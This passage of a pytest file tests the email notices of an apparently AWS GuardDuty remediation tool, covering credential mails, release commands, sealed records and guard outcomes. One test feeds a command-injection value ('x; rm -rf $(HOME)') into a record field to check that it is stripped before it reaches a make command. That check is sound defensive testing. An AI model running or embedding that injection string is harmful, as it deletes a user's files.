    assert reader.lines[1] == "NOT revoked"


@pytest.mark.parametrize("wrong", [None, "text", 7, [], {}, [None], {"a": "b"}], ids=repr)
def test_no_misshapen_finding_stops_a_mail_for_credentials(wrong):
    event = load("iam-role-credential-exfiltration")
    for path in paths(event["detail"]):
        if len(path) > 3:
            continue
        broken = copy.deepcopy(event)
        *parents, last = path
        holder = broken["detail"]
        for key in parents:
            holder = holder[key]
        holder[last] = copy.deepcopy(wrong)
        subject, _ = credential_mail(revocation(), event=broken)
        assert subject.startswith("GuardDuty Remediation | ID: ")


def test_the_command_of_the_release_has_the_word_of_the_record():
    sealed = {"step": "seal-record", "status": "done", "detail": "d", "error": None, "facts": []}
    command = "make release INSTANCE=i-0abc1234def567890 REGION=us-west-2"

    whole = remediation_mail(outcome(), sealed | {"record": "av36dgbvgvq7y2hx"})[1]
    hostile = remediation_mail(outcome(), sealed | {"record": "x; rm -rf $(HOME)"})[1]

    assert f"{command} RECORD=av36dgbvgvq7y2hx" in whole.lines
    assert f"{command} RECORD=xrm-rfHOME" in hostile.lines
    assert "The record is not sealed" in remediation_mail(outcome())[1].text


def test_the_groups_to_say_by_hand_are_whole():
    """An interface has five groups at most by default."""
    said = f"GROUPS=eni-{0:017x}=" + ",".join(f"sg-{n:017x}" for n in range(5))
    error = f"its original groups could not be recorded: TagLimitExceeded: {'x' * 200}. {said}"

    _, reader = remediation_mail(outcome(interfaces=[interface(error=error, status="failed")]))

    assert said in reader.text


def test_a_refused_release_shows_the_record_and_the_word_to_confirm_it():
    groups = " ".join(
        f"eni-{n:017x}=" + ",".join(f"sg-{m:017x}" for m in range(5)) for n in range(4)
    )
    error = f"the record: On record: original-groups {groups}. RECORD=av36dgbvgvq7y2hx"
    event = {"c7n:notice": {"headline": "GuardDuty Release | i-0", "who": "me"}, "detail": {}}
    failed = {"step": "verify-record", "status": "failed", "detail": "d", "error": error}
    instance = {"InstanceId": "i-0abc1234def567890", "Tags": [], "c7n:response": [failed]}
    policy = {"name": "ec2-release", "resource": "ec2", "metadata": {"runbook": "docs/runbook.md"}}

    _, reader = mail("release.html", "", event, [instance], policy)

    assert groups in reader.text and "RECORD=av36dgbvgvq7y2hx" in reader.text


RELEASE = {"c7n:notice": {"headline": "GuardDuty Release | i-0", "who": "me"}, "detail": {}}
GUARD_CALL = {
    "eventName": "DeleteTags",
    "eventID": "e1",
    "userIdentity": {"arn": "arn:aws:iam::111122223333:user/x"},
}


def ended(status="done", **more):
    return {"step": "a-step", "status": status, "detail": "d", "error": None, "facts": []} | more


@pytest.mark.parametrize(
    "outcomes, verdict, words",
    [
        ([ended()], "Released", "Done"),
        (
            [ended(), ended("unchanged", stays="192.0.2.7 stays denied for i-1.")],
            "Released, but not all is as it was",
            "What stays: 192.0.2.7 stays denied for i-1.",
        ),
        (
            [ended(unrecorded=["the groups of eni-1"])],
            "Released, but not all is as it was",
            "Never recorded, and so not put back: the groups of eni-1.",
        ),
        (
            [ended("failed", error="UnauthorizedOperation: <b>no</b>")],
            "The release is NOT complete",
            "make release INSTANCE=i-0abc1234def567890 REGION=us-west-2",
        ),
    ],
)
def test_a_release_says_first_how_it_ended(outcomes, verdict, words):
    instance = {"InstanceId": "i-0abc1234def567890", "Tags": [], "c7n:response": outcomes}
    policy = {"name": "ec2-release", "resource": "ec2", "metadata": {"runbook": "docs/runbook.md"}}

    _, reader = mail("release.html", "", RELEASE, [instance], policy)

    assert reader.lines[1] == verdict and words in reader.text
    assert "unchanged" not in reader.text
    assert ("UnauthorizedOperation: <b>no</b>" in reader.lines[2]) == (verdict[-1] == "e")


@pytest.mark.parametrize(
    "about, command",
    [
        ({"InstanceId": "i-0abc1234def567890"}, "make isolate INSTANCE=i-0abc1234def567890"),
        ({"GroupId": "sg-0abc1234"}, "make empty-forensic-group GROUP=sg-0abc1234"),
        ({"account_id": "111122223333"}, "make deploy"),
    ],
)
def test_a_guard_says_first_whether_it_was_put_right(about, command):
    def guarded(*outcomes):
        event = {"c7n:notice": {"headline": "GuardDuty Guard | x"}, "detail": GUARD_CALL}
        policy = {"name": "isolation-guard", "resource": "ec2", "metadata": {}}
        return mail("guard.html", "", event, [about | {"c7n:response": outcomes}], policy)[1]

    failed = guarded(ended(), ended("failed", error="Throttling: slow"))

    assert failed.lines[1:3] == ["NOT put right", "a-step: Throttling: slow"]
    assert f"{command} REGION=us-west-2" in failed.lines
    assert guarded(ended(), ended("skipped")).lines[1] == "Only a part was put right"
    assert guarded(ended("planned")).lines[1] == "NOTHING was put right"
    assert guarded(ended()).lines[1] == "Put right"
    assert guarded(ended("unchanged")).lines[1] == "Nothing had to be put right"
